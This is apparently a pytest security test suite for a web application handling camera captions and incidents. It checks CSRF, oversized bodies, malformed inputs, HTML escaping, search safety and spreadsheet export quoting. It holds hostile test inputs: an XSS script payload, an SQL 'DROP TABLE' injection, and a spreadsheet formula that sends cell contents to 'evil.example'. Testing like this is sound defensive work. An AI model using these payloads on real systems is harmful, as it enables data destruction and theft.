"""What comes in to do harm: forged forms, bodies that are too large, and captions with SQL, HTML and formulas."""

import csv
import io
from datetime import UTC, datetime
from urllib.parse import quote

import httpx
import pytest

from broker.config.broker import Config
from broker.retention import export
from testing.waiting import wait_until
from tests.broker.web import sample
from tests.broker.web.serving import Browser

HTML = "<script>alert(1)</script><img src=x onerror=alert(2)>"
SQL = "'; DROP TABLE caption; --"
FORMULA = '=HYPERLINK("http://evil.example?"&A1)'


@pytest.fixture(scope="module")
def spoken(config: Config) -> None:
    """Let a camera say all of it."""
    now = datetime.now(UTC)
    texts = (HTML, SQL, FORMULA, "@SUM(1)", "＝1+1", "-2+3 zebra")
    sample.say(config, *(sample.caption(text, 5000 + n, now) for n, text in enumerate(texts)))


@pytest.mark.parametrize("forged", [{}, {"csrf": ""}, {"csrf": "guess"}])
@pytest.mark.parametrize("path", ["/incidents/3/resolve", "/logout", "/language", "/account/tokens"])
def test_a_form_without_its_word_is_refused(guard: Browser, path: str, forged: dict[str, str]) -> None:
    assert guard.http.post(path, data=forged).status_code == 403
    assert guard.http.get("/").status_code == 200


def test_a_form_from_another_site_is_refused_even_with_its_word(guard: Browser) -> None:
    form = {"csrf": guard.word("/account")}

    for header in ({"sec-fetch-site": "cross-site"}, {"sec-fetch-site": "same-site"}):
        assert guard.http.post("/incidents/3/resolve", data=form, headers=header).status_code == 403


def test_one_sessions_word_does_not_serve_another(guard: Browser, supervisor: Browser) -> None:
    form = {"csrf": supervisor.word("/account")}

    assert guard.http.post("/incidents/3/resolve", data=form).status_code == 403


def test_a_body_that_is_too_large_is_not_read(guard: Browser) -> None:
    word = guard.word("/account")

    answer = guard.http.post("/incidents/3/notes", data={"csrf": word, "text": "x" * 100_000})

    assert answer.status_code == 413


@pytest.mark.parametrize(
    "path", ["/incidents?before=x", "/history?before=1.5", "/live/stream?after=a", "/history?danger=perhaps"]
)
def test_a_wrong_type_is_a_mistake_and_no_crash(guard: Browser, path: str) -> None:
    assert guard.http.get(path).status_code == 400


NINES = "9" * 40

NUMBERED = (
    *("/history?before={}", "/incidents?before={}", "/audit?before={}", "/live/stream?after={}", "/incidents/{}"),
    *("/history?day={}", "/plots?span={}", "/incidents?state={}", "/history?danger={}"),
)


@pytest.mark.parametrize("path", NUMBERED)
@pytest.mark.parametrize(
    "number", [NINES, str(2**63), str(2**63 - 1), str(2**31), "-1", "0", "1e9", "NaN", "٣", "9" * 5000]
)
def test_no_number_makes_a_page_fail(administrator: Browser, path: str, number: str) -> None:
    with administrator.http.stream("GET", path.format(quote(number))) as answer:
        assert answer.status_code < 500


def test_a_number_that_no_caption_has_is_named_as_a_mistake(guard: Browser) -> None:
    answer = guard.http.get(f"/history?before={NINES}")

    assert answer.status_code == 400
    assert "The request is invalid." in answer.text


@pytest.mark.parametrize(
    "path", ["/silences/{}/end", "/messages/{}/resend", "/incidents/{}/resolve", "/incidents/{}/notes", "/users/{}"]
)
@pytest.mark.parametrize("number", [NINES, str(2**63), str(2**31), "0"])
def test_a_form_about_a_number_that_nothing_has_finds_nothing(administrator: Browser, path: str, number: str) -> None:
    assert administrator.send(path.format(number), {"text": "x"}).status_code == 404


@pytest.mark.parametrize(
    "path", ["/incidents/99999999999999999999", "/incidents/0", "/plans/nowhere", "/incidents/3/x"]
)
def test_what_is_not_there_is_not_there(guard: Browser, path: str) -> None:
    assert guard.http.get(path).status_code in (404, 405)


@pytest.mark.usefixtures("spoken")
@pytest.mark.parametrize("path", ["/", "/history?q=alert", "/devices"])
def test_html_in_a_caption_is_shown_and_not_run(guard: Browser, path: str) -> None:
    page = guard.http.get(path).text

    assert "<script>alert" not in page
    assert "<img src=x" not in page


@pytest.mark.usefixtures("spoken")
def test_html_in_a_caption_is_escaped_in_results(guard: Browser) -> None:
    wait_until(lambda: "&lt;script&gt;" in guard.http.get("/history?q=alert").text, "the index keeps up")


@pytest.mark.usefixtures("spoken")
@pytest.mark.parametrize(
    "asked", [SQL, '"', "a* OR b", "NEAR(", "%", "_", "'", "\\", "칼을 OR", "-", "x" * 300, "\x00"]
)
def test_a_question_is_never_a_command(guard: Browser, asked: str) -> None:
    assert guard.http.get("/history", params={"q": asked}).status_code == 200
    assert guard.http.get("/history", params={"q": "hydrant"}).status_code == 200


@pytest.mark.usefixtures("spoken")
def test_formulas_in_captions_are_text_in_a_spreadsheet(supervisor: Browser) -> None:
    text = supervisor.http.get("/history.csv").content.decode("utf-8-sig")

    rows = list(csv.DictReader(io.StringIO(text)))
    said = {row["text"] for row in rows}
    assert {f"'{FORMULA}", "'@SUM(1)", "'＝1+1", "'-2+3 zebra"} <= said
    assert not any(value.lstrip(" ").startswith(("=", "+", "-", "@")) for row in rows for value in row.values())


@pytest.mark.parametrize("text", ["=1", " =1", "+1", "-1", "@x", "\t=1", "\r=1"])
def test_a_cell_that_begins_like_a_formula_is_quoted(text: str) -> None:
    assert export.cell(text) == f"'{text}"


def test_a_harmless_cell_stays_as_it_is() -> None:
    assert export.cell("a man-made lake") == "a man-made lake"


def test_a_name_that_would_forge_a_line_is_no_name(administrator: Browser) -> None:
    fields = {"name": "x\r\ny", "password": "a long enough phrase", "role": "guard", "language": "en"}

    assert administrator.send("/users", fields).status_code == 400


def test_the_api_does_not_take_a_cookie(guard: Browser) -> None:
    assert guard.http.get("/api/v1/incidents").status_code == 401


@pytest.mark.parametrize("host", ["a:b", "a:1:2", "a b", "<script>", "[::1", "a:999999"])
@pytest.mark.parametrize("path", ["/", "/history", "/api/v1/captions", "/static/console.css", "/nowhere"])
def test_a_request_for_no_host_is_a_mistake_and_no_crash(address: str, host: str, path: str) -> None:
    assert httpx.get(address + path, headers={"host": host}).status_code in (400, 404)


def test_a_form_that_is_no_text_is_a_mistake_and_no_crash(guard: Browser) -> None:
    part = b'--b\r\nContent-Disposition: form-data; name="text"%s\r\n\r\n\x89\xff\r\n--b--\r\n'
    head = {"content-type": "multipart/form-data; boundary=b"}

    for body in (part % b"", part % b"\r\nContent-Type: text/plain; charset=klingon"):
        assert guard.http.post("/incidents/3/notes", content=body, headers=head).status_code == 400


def test_an_error_tells_nothing_of_the_inside(address: str) -> None:
    answer = httpx.get(f"{address}/api/v1/captions", headers={"authorization": "Bearer nonsense"})

    assert answer.status_code == 401
    assert answer.json() == {"status": 401, "problem": "Unauthorized"}
